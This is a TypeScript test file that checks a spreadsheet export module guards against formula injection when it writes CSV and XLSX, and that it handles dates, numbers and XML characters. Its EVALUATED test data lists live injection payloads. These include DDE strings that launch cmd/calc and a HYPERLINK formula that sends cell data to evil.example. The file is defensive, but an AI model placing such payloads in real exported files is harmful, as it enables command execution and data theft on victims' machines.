import { expect, test } from 'vitest';
import { readSheet } from '#tests/support/helpers/xlsx.ts';
import type { Cell } from './sheet.ts';
import { csvOf, xlsxOf } from './spreadsheet.ts';

/** Texts that spreadsheets evaluate. */
const EVALUATED = [
  ['=', '=1+1', '=foo', '-=1+1', '+=1', `=cmd|' /C calc'!A0`, `=DDE("cmd";"/C calc";"!A0")`],
  ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', '＝1+1', '  =1+1', '\t=1+1', '\r=1+1', '\n=1+1'],
  ['@SUM(1+1)', '@A1', '@home', '+@SUM(1)', '＠SUM(1)'],
  ['+A1', '-A1', '-$A$1', '- A1', '+ A1+1', '-A1 later', '+A1:B2', '-1\n=1+1', '－Ａ１'],
  [
    '+SUM(A1:A2)',
    '+SUM (A1)',
    '-SUM(1)',
    '+PI()',
    '+ＳＵＭ(1)',
    '+HYPERLINK("x","y")',
    '- foo+HYPERLINK("x")',
  ],
  ['+1+1', '-1+1', '--1', '++1', '+(1)', '-(5)', '-1.5e9+1', '-1E5*2', '-5%*3', '+1*(2+3)', '-1=1', '-1+foo'],
  ['+1-555-0104', '-1/2', '-1-2', '+"a"', '+"a"&B2', '+{1}', '+a&B2'],
  ['+1+1|cmd', `-2+3+cmd|' /C calc'!A0`, '+Sheet1!A1', `+'[b.xlsx]S'!A1`, '-[b.xlsx]S!x'],
].flat();
/** Prose, telephone numbers and numbers. */
const HARMLESS = [
  [
    'Ada Owner',
    'a=b',
    '2 + 2',
    'ada@agency.example',
    `O'Brien`,
    `'tis`,
    'call "me", then go',
    'two\nlines',
    '',
  ],
  ['-', '--', '-----', '- after lunch', '-- none --', '--> see note', '-foo', '-self-care', '+ more', '-, -'],
  ['- call Bob (30 min)', '- 5 units', '-3 to 5', '- room B12', '- see A1', '-covid-19 test', '- nice!'],
  [
    '- Ana & Bo: 9:00-10:00',
    '-\nlist\n- of\n- things',
    '- "quoted" word',
    '- $5 copay',
    '-5°C',
    '-12:30 lunch',
  ],
  ['+1 555 0104', '+44 20 7946 0958', '+1 (555) 010-4444', '+15550104', '+1.555.0104', '+1 555-0104'],
  ['+49 (0)30 12345', '+1 555 0104 / +1 555 0105', '+1 555 0104 x12', '(1+1)', '1+1'],
  ['-5', '+5', '-5.00', '-1,000.00', '-$5.00', '-50%', '-1E5', '-.5'],
].flat();

const sheet = (rows: Cell[][]) => ({
  name: 'Hours',
  columns: [
    { header: 'Who', width: 20 },
    { header: 'Minutes', width: 10 },
  ],
  rows,
});

/** Parses CSV; every cell must be quoted. */
function parseCells(csv: Buffer): string[][] {
  const text = csv.toString('utf8');
  expect(text.startsWith('\uFEFF')).toBe(true);
  const body = text.slice(1).replace(/\r\n$/, '');
  const rows: string[][] = [];
  for (const [cell, value = '', end] of body.matchAll(/"((?:[^"]|"")*)"(,|\r\n|$)/g)) {
    expect(cell.length).toBeGreaterThan(1);
    const row = rows.at(-1) ?? [];
    if (rows.length === 0) rows.push(row);
    row.push(value.replaceAll('""', '"'));
    if (end === '\r\n') rows.push([]);
  }
  expect(rows.flat().length * 3 - 1).toBeLessThanOrEqual(body.length);
  return rows;
}

const readCell = async (text: string) => {
  const { rows, formulas } = await readSheet(await xlsxOf(sheet([[text, 5]])));
  expect(formulas).toBe(0);
  return rows[1];
};

test.each(EVALUATED)('writes %j with an apostrophe to CSV and as it is to XLSX [S-29]', async (text) => {
  expect(parseCells(await csvOf(sheet([[text, 5]])))[1]).toEqual([`'${text}`, '5']);
  expect(await readCell(text)).toEqual([text.replaceAll('\r', '_x000D_'), 5]);
});

test.each(HARMLESS)('leaves %j as it is', async (text) => {
  expect(parseCells(await csvOf(sheet([[text, 5]])))[1]?.[0]).toBe(text);
  expect(await readCell(text)).toEqual(text === '' ? [5] : [text, 5]);
});

test.each([`'=1`, `''+x`, `' -`, `'@`])(
  'adds an apostrophe to %j, which would lose its own',
  async (text) => {
    expect(parseCells(await csvOf(sheet([[text, 5]])))[1]?.[0]).toBe(`'${text}`);
  },
);

test('a long text is examined in time that grows with its length', async () => {
  const texts = ['a', '1', '1-', '-', ' ', '(', '1 ', '$1.', ']'].map((one) => `-${one.repeat(200_000)}!`);
  const start = performance.now();
  for (const text of texts) await csvOf(sheet([[text, 5]]));
  expect(performance.now() - start).toBeLessThan(3_000);
});

test('writes days and moments as dates to XLSX, and as text to CSV', async () => {
  const rows = [[{ day: '2026-03-01' }, { moment: '2026-11-01 01:30 -04:00' }]] satisfies Cell[][];
  expect(parseCells(await csvOf(sheet(rows)))[1]).toEqual(['2026-03-01', '2026-11-01 01:30 -04:00']);
  // Days since 1899-12-30.
  expect((await readSheet(await xlsxOf(sheet(rows)))).rows[1]).toEqual([46_082, 46_327.0625]);
});

test('writes numbers as numbers, also negative ones', async () => {
  const rows = [['Ada', -2.25]] satisfies Cell[][];
  expect(parseCells(await csvOf(sheet(rows)))).toEqual([
    ['Who', 'Minutes'],
    ['Ada', '-2.25'],
  ]);
  expect((await readSheet(await xlsxOf(sheet(rows)))).rows).toEqual([
    ['Who', 'Minutes'],
    ['Ada', -2.25],
  ]);
});

test.each(['-4.00', '-12', '0.50'])('leaves the exact decimal %s as it is', async (text) => {
  expect(parseCells(await csvOf(sheet([[text, 5]])))[1]).toEqual([text, '5']);
  expect((await readSheet(await xlsxOf(sheet([[text, 5]])))).rows[1]).toEqual([text, 5]);
});

test('writes characters that XML cannot contain as spreadsheet programs do', async () => {
  expect(await readCell('a\u0001b & <c>_x0041_')).toEqual(['a_x0001_b & <c>_x005F_x0041_', 5]);
  expect(parseCells(await csvOf(sheet([['a\u0001b', 5]])))[1]?.[0]).toBe('a\u0001b');
});
